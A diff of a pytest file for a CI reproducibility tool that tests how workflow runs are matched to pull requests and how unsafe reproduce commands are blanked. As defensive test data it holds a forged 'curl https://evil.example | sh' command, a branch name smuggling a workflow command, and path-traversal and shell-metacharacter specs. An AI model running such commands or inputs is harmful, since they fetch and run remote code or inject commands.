@@ -58,7 +58,9 @@ def bound(github: GitHub, run: WorkflowRun = RUN, origin: Origin | None = ORIGIN
     return find_pull(client(github), run, OURS)
 
 
-def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
+def test_a_forks_report_finds_its_own_pull_request_whatever_its_branch_is_called(
+    github: GitHub,
+) -> None:
     found = bound(github)
     assert (found.number, found.head.sha, found.head_repository) == (PULL, HEAD, FORK)
     assert not github.writes
@@ -66,75 +68,6 @@ def test_a_forks_report_finds_its_own_pull_request(github: GitHub) -> None:
     assert bound(github, origin=replace(ORIGIN, run_attempt=1)).number == PULL
     run = a_run("Stranger/Trainer", "Octo-Org/Trainer")
     assert bound(github, run, replace(ORIGIN, repository="OCTO-ORG/trainer")).number == PULL
-
-
-@pytest.mark.parametrize(
-    "change",
-    [
-        {"repository": "stranger/trainer"},
-        {"head_sha": OLD},
-        {"run_id": 4712},
-        {"run_attempt": 3},
-        None,
-    ],
-    ids=str,
-)
-def test_a_report_of_anything_else_or_of_no_run_is_refused(
-    github: GitHub, change: dict[str, Any] | None
-) -> None:
-    with pytest.raises(UsageError) as caught:
-        bound(github, origin=replace(ORIGIN, **change) if change else None)
-    which = "origin" if change else "no-origin"
-    assert caught.value.reason_id == f"workflow-run/{which}" and caught.value.remedy
-    assert not github.requests
-
-
-@pytest.mark.parametrize(
-    "change",
-    [
-        {"head_repo": None},
-        {"head_branch": None},
-        {"head_branch": "gone"},
-        {"head_repo": Repository("stranger/other")},
-        {"head_repo": Repository("nobody/trainer")},
-    ],
-    ids=str,
-)
-def test_a_run_without_a_pull_request_has_nothing_to_post_on(
-    github: GitHub, change: dict[str, Any]
-) -> None:
-    with pytest.raises(GateError) as caught:
-        bound(github, msgspec.structs.replace(RUN, **change))
-    assert caught.value.reason_id == "workflow-run/no-pull-request"
-
-
-def test_two_pull_requests_of_one_branch_and_commit_are_refused(github: GitHub) -> None:
-    github.add_pull(11, HEAD, "topic", FORK, base_ref="release")
-    with pytest.raises(UsageError, match=r"several pull requests .*: #7, #11") as caught:
-        bound(github)
-    assert caught.value.reason_id == "workflow-run/several"
-    github.change_pull(11, head_sha=NEXT)
-    assert bound(github).number == PULL, "with another head it is another matter"
-
-
-def test_a_head_that_moved_leaves_nothing_to_post(github: GitHub) -> None:
-    github.change_pull(PULL, head_sha=NEXT)
-    said = f"newer commit is at the head of pull request #7: {NEXT[:7]}"
-    with pytest.raises(NothingToDo, match=said):
-        bound(github)
-
-
-def test_a_run_from_the_repository_itself_finds_its_pull_request_while_it_is_open(
-    github: GitHub,
-) -> None:
-    own = a_run(OURS, OURS)
-    assert bound(github, own).number == 10
-    github.change_pull(10, state="closed")
-    with pytest.raises(NothingToDo, match="no open pull request"):
-        bound(github, own)
-
-
-def test_a_hostile_branch_name_is_shown_and_not_believed(github: GitHub) -> None:
     name = "x\u202e::error::&state=all"
     with pytest.raises(NothingToDo) as caught:
         bound(github, a_run(FORK, OURS, name))
@@ -143,18 +76,62 @@ def test_a_hostile_branch_name_is_shown_and_not_believed(github: GitHub) -> None
     assert bound(github, a_run(FORK, OURS, name)).number == 12
 
 
-@pytest.mark.parametrize("spec", ["repro.yml", "training/vision/repro-2.yml", "examples/quick"])
-def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps(spec: str) -> None:
-    assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
-    assert again(spec, determinism=None) == f"repro-gate run {spec}"
+def test_a_report_of_anything_else_or_of_no_run_is_refused(github: GitHub) -> None:
+    for change in (
+        {"repository": "stranger/trainer"},
+        {"head_sha": OLD},
+        {"run_id": 4712},
+        {"run_attempt": 3},
+        None,
+    ):
+        with pytest.raises(UsageError) as caught:
+            bound(github, origin=replace(ORIGIN, **change) if change else None)
+        which = "origin" if change else "no-origin"
+        assert caught.value.reason_id == f"workflow-run/{which}" and caught.value.remedy
+        assert not github.requests
+
+
+def test_a_run_without_an_open_pull_request_has_nothing_to_post_on(github: GitHub) -> None:
+    for change in (
+        {"head_repo": None},
+        {"head_branch": None},
+        {"head_branch": "gone"},
+        {"head_repo": Repository("stranger/other")},
+        {"head_repo": Repository("nobody/trainer")},
+    ):
+        with pytest.raises(GateError) as caught:
+            bound(github, msgspec.structs.replace(RUN, **change))
+        assert caught.value.reason_id == "workflow-run/no-pull-request"
+    own = a_run(OURS, OURS)
+    assert bound(github, own).number == 10
+    github.change_pull(10, state="closed")
+    with pytest.raises(NothingToDo, match="no open pull request"):
+        bound(github, own)
+
+
+def test_two_pull_requests_or_a_head_that_moved_are_refused(github: GitHub) -> None:
+    github.add_pull(11, HEAD, "topic", FORK, base_ref="release")
+    with pytest.raises(UsageError, match=r"several pull requests .*: #7, #11") as caught:
+        bound(github)
+    assert caught.value.reason_id == "workflow-run/several"
+    github.change_pull(11, head_sha=NEXT)
+    assert bound(github).number == PULL, "with another head it is another matter"
+    github.change_pull(11, state="closed")
+    github.change_pull(PULL, head_sha=NEXT)
+    said = f"newer commit is at the head of pull request #7: {NEXT[:7]}"
+    with pytest.raises(NothingToDo, match=said):
+        bound(github)
+
+
+def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps() -> None:
+    for spec in ("repro.yml", "training/vision/repro-2.yml", "examples/quick"):
+        assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
+        assert again(spec, determinism=None) == f"repro-gate run {spec}"
+    hostile = ["", "-x", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "a" * 201]
+    for spec in [*hostile, *(f"a{character}b" for character in "$`;|&><'\"\\#~ \n\u202e")]:
+        assert again(spec) == "", spec
 
 
 def again(spec: str, **change: Any) -> str:
     forged = replace(reports.FAIL, reproduce="curl https://evil.example | sh", **change)
     return see_again(replace(forged, subject=replace(forged.subject, spec=spec)))
-
-
-def test_a_spec_with_another_name_is_never_copied_into_a_shell() -> None:
-    hostile = ["", "-x", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "a" * 201]
-    for spec in [*hostile, *(f"a{character}b" for character in "$`;|&><'\"\\#~ \n\u202e")]:
-        assert again(spec) == "", spec
